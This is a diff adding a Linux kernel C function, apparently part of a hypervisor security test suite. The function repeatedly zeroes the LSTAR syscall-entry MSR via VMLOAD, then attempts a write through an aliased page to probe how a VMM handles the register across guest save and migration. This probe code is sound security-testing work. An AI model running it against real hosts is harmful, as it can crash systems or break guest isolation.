@@ -102,3 +102,45 @@ void attack_lstar_zero_vmport(struct rf_report *r)
 	rf_lstar_zero(r, rf_vmload_lstar, block);
 	free_page((unsigned long)block);
 }
+
+/*
+ * LSTAR is 0 while the guest is saved, and again as often as somebody puts it back: where a VMM
+ * loads it, the value that announces a kernel is not there. Half of the time is for that; then the
+ * store, when the guest has been moved.
+ */
+void attack_restore_lstar_zero(struct rf_report *r)
+{
+	struct rf_alias alias;
+	unsigned long faulted = 1, flags, until;
+	void *block;
+	u64 before;
+
+	if (!boot_cpu_has(X86_FEATURE_SVM))
+		return rf_skip(r, "this guest may run no guests");
+	block = (void *)get_zeroed_page(GFP_KERNEL);
+	if (!block || !rf_aim_banner(r, &alias, 8, 1))
+		return;
+	rf_announce();
+	/* Nothing else on this processor: a system call would go to 0. */
+	preempt_disable();
+	before = rf_get_msr(MSR_LSTAR);
+	until = jiffies + rf_patience * HZ;
+	while (time_before(jiffies, until)) {
+		local_irq_save(flags);
+		rf_vmload_lstar(block, 0);
+		local_irq_restore(flags);
+		touch_softlockup_watchdog();
+	}
+	asm volatile(RF_STORE("xorb $1, (%[p])")
+		     : [f] "+r"(faulted)
+		     : [p] "r"(alias.at)
+		     : "memory", "cc");
+	rf_say(r, "lstar=%s", rf_get_msr(MSR_LSTAR) ? "back" : "zero");
+	local_irq_save(flags);
+	rf_vmload_lstar(block, before);
+	local_irq_restore(flags);
+	preempt_enable();
+	rf_judge(r, faulted);
+	rf_alias_unmap(&alias);
+	free_page((unsigned long)block);
+}
